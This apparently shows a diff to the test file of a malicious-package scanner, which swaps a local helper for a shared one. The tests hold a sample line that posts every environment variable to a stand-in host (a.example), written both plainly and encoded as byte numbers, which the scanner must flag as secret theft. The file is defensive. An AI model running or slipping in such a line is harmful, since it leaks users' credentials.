@@ -1,14 +1,12 @@
 """Ways that data takes without an assignment, and code that is worked out: samples of one line."""
 
-from collections.abc import Mapping
 from pathlib import Path
 
 import pytest
 
-from package_gate.core.finding import Severity
 from package_gate.core.limits import Limits
 from package_gate.scanners.behaviour.scanner import BehaviourScanner
-from tests.scanners.packages import package
+from tests.scanners.packages import package, refusing_rules
 
 IMPORTS = {"pk/__init__.py": "from . import a\n"}
 START = "import os, requests\nU = 'https://a.example'\n"
@@ -17,12 +15,6 @@ START = "import os, requests\nU = 'https://a.example'\n"
 @pytest.fixture(scope="module")
 def behaviour() -> BehaviourScanner:
     return BehaviourScanner(Limits())
-
-
-def rules(behaviour: BehaviourScanner, folder: Path, files: Mapping[str, str | bytes]) -> set[str]:
-    """Name the rules that refuse in a young project."""
-    found = behaviour.scan(package(folder, files))
-    return {each.rule for each in found if (each.severity or Severity.HIGH) >= Severity.MEDIUM}
 
 
 @pytest.mark.parametrize(
@@ -74,7 +66,9 @@ def rules(behaviour: BehaviourScanner, folder: Path, files: Mapping[str, str | b
 def test_what_is_sent_is_followed_on_any_way(
     behaviour: BehaviourScanner, tmp_path: Path, code: str
 ) -> None:
-    assert "sends-secrets" in rules(behaviour, tmp_path, {"pk/__init__.py": f"{START}{code}\n"})
+    assert "sends-secrets" in refusing_rules(
+        behaviour, tmp_path, {"pk/__init__.py": f"{START}{code}\n"}
+    )
 
 
 @pytest.mark.parametrize(
@@ -90,7 +84,7 @@ def test_what_is_sent_is_followed_on_any_way(
 def test_honest_code_is_not_taken_for_it(
     behaviour: BehaviourScanner, tmp_path: Path, code: str
 ) -> None:
-    assert rules(behaviour, tmp_path, {"pk/__init__.py": f"{START}{code}\n"}) == set()
+    assert refusing_rules(behaviour, tmp_path, {"pk/__init__.py": f"{START}{code}\n"}) == set()
 
 
 @pytest.mark.parametrize(
@@ -110,7 +104,9 @@ def test_there_are_many_ways_to_name_what_runs_code(
 ) -> None:
     text = f"import requests\nTEXT = requests.get('https://a.example').text\n{code}\n"
 
-    assert "runs-downloaded-code" in rules(behaviour, tmp_path, {"pk/a.py": text, **IMPORTS})
+    assert "runs-downloaded-code" in refusing_rules(
+        behaviour, tmp_path, {"pk/a.py": text, **IMPORTS}
+    )
 
 
 @pytest.mark.parametrize(
@@ -129,7 +125,9 @@ def test_there_are_many_ways_to_name_what_runs_code(
 def test_code_that_is_worked_out_of_constants_refuses(
     behaviour: BehaviourScanner, tmp_path: Path, code: str
 ) -> None:
-    assert "runs-decoded-code" in rules(behaviour, tmp_path, {"pk/__init__.py": f"{code}\n"})
+    assert "runs-decoded-code" in refusing_rules(
+        behaviour, tmp_path, {"pk/__init__.py": f"{code}\n"}
+    )
 
 
 @pytest.mark.parametrize(
@@ -148,7 +146,7 @@ def test_code_that_stands_there_in_another_way_is_looked_at(
     payload = f"{START}requests.post(U, json=dict(os.environ))"
     filled = code.format(payload, numbers=", ".join(map(str, payload.encode())))
 
-    found = rules(behaviour, tmp_path, {"pk/__init__.py": f"import os\n{filled}\n"})
+    found = refusing_rules(behaviour, tmp_path, {"pk/__init__.py": f"import os\n{filled}\n"})
 
     assert "sends-secrets" in found
 
@@ -169,7 +167,9 @@ def test_code_that_stands_there_in_another_way_is_looked_at(
 def test_templates_are_no_hidden_code(
     behaviour: BehaviourScanner, tmp_path: Path, code: str
 ) -> None:
-    assert "runs-decoded-code" not in rules(behaviour, tmp_path, {"pk/__init__.py": f"{code}\n"})
+    assert "runs-decoded-code" not in refusing_rules(
+        behaviour, tmp_path, {"pk/__init__.py": f"{code}\n"}
+    )
 
 
 @pytest.mark.parametrize(
@@ -185,7 +185,7 @@ def test_letters_that_another_python_takes_hide_nothing(
 ) -> None:
     code = line + f"{START}requests.post(U, json=dict(os.environ))\n".encode()
 
-    assert rules(behaviour, tmp_path, {"pk/__init__.py": code})
+    assert refusing_rules(behaviour, tmp_path, {"pk/__init__.py": code})
 
 
 def test_a_wheel_that_says_that_it_is_pure_is_asked_again(
@@ -229,7 +229,7 @@ def test_what_is_written_where_others_read_refuses(
 ) -> None:
     text = f"from pathlib import Path\n{code}\n"
 
-    assert rule in rules(behaviour, tmp_path, {"pk/__init__.py": text})
+    assert rule in refusing_rules(behaviour, tmp_path, {"pk/__init__.py": text})
 
 
 @pytest.mark.parametrize(
@@ -246,4 +246,4 @@ def test_what_is_written_elsewhere_does_not(
 ) -> None:
     text = f"from pathlib import Path\n{code}\n"
 
-    assert rules(behaviour, tmp_path, {"pk/__init__.py": text}) == set()
+    assert refusing_rules(behaviour, tmp_path, {"pk/__init__.py": text}) == set()
